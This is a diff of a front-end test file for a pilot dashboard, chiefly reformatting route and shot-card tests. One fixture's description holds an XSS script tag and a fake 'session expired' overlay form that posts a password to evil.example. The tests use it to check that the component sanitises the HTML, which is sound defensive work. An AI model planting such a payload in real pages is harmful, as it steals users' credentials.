@@ -33,13 +33,10 @@ describe('the pilot dashboard', () => {
 
   it('sends 0 or an unknown id to the first project of the list', async () => {
     storeSession(ROLES.VMS_PILOT);
-    const { router } = renderRoutes(
-      [
-        { path: '/pilot-dashboard/:projectID', element: <PilotDashboardPage /> },
-      ],
-      '/pilot-dashboard/999',
-      [listing([project(7, false), project(3, true)]), listing([project(7, false), project(3, true)])],
-    );
+    const { router } = renderRoutes([{ path: '/pilot-dashboard/:projectID', element: <PilotDashboardPage /> }], '/pilot-dashboard/999', [
+      listing([project(7, false), project(3, true)]),
+      listing([project(7, false), project(3, true)]),
+    ]);
     await waitFor(() => expect(router.state.location.pathname).toBe('/pilot-dashboard/7'));
   });
 });
@@ -57,9 +54,23 @@ describe('Invite pilot', () => {
 });
 
 describe('a shot card', () => {
-  const shot = { __typename: 'PilotShot' as const, id: 's1', title: 'Front Elevation', description: '<p>Front <script>alert(1)</script><b>45°</b></p><div style="position:fixed;inset:0;z-index:9999">Your session expired<form action="https://evil.example"><input name="password"></form></div><a href="https://vms.example/guide">guide</a>', exampleLink: null, folderTypes: 'Image', uploadingPath: 'projects/p/x', isAssetUploaded: true, isMarkedCompleted: true, hasNoteAdded: false };
+  const shot = {
+    __typename: 'PilotShot' as const,
+    id: 's1',
+    title: 'Front Elevation',
+    description:
+      '<p>Front <script>alert(1)</script><b>45°</b></p><div style="position:fixed;inset:0;z-index:9999">Your session expired<form action="https://evil.example"><input name="password"></form></div><a href="https://vms.example/guide">guide</a>',
+    exampleLink: null,
+    folderTypes: 'Image',
+    uploadingPath: 'projects/p/x',
+    isAssetUploaded: true,
+    isMarkedCompleted: true,
+    hasNoteAdded: false,
+  };
   it('sanitises the HTML description and locks Verify Completed for the pilot once completed', () => {
-    const { container } = renderUi(<ShotCard shot={shot} projectId="1" role={ROLES.VMS_PILOT} accepted canUpload canControl onChanged={() => {}} />);
+    const { container } = renderUi(
+      <ShotCard shot={shot} projectId="1" role={ROLES.VMS_PILOT} accepted canUpload canControl onChanged={() => {}} />,
+    );
     expect(container.querySelector('script')).toBeNull();
     expect(screen.getByText('45°')).toBeInTheDocument();
     // a pilot's description cannot lay a fake overlay or form over the PM's page (#34 finding 11)
@@ -71,7 +82,17 @@ describe('a shot card', () => {
     expect(screen.getByTestId('shot-status')).toHaveTextContent('COMPLETED');
   });
   it('hides Verify Completed from the PM until the shot is completed', () => {
-    renderUi(<ShotCard shot={{ ...shot, isMarkedCompleted: false }} projectId="1" role={ROLES.VMS_PM} accepted canUpload={false} canControl onChanged={() => {}} />);
+    renderUi(
+      <ShotCard
+        shot={{ ...shot, isMarkedCompleted: false }}
+        projectId="1"
+        role={ROLES.VMS_PM}
+        accepted
+        canUpload={false}
+        canControl
+        onChanged={() => {}}
+      />,
+    );
     expect(screen.queryByLabelText('Verify Completed')).toBeNull();
     expect(screen.getByTestId('shot-status')).toHaveTextContent('NOT_COMPLETED');
   });
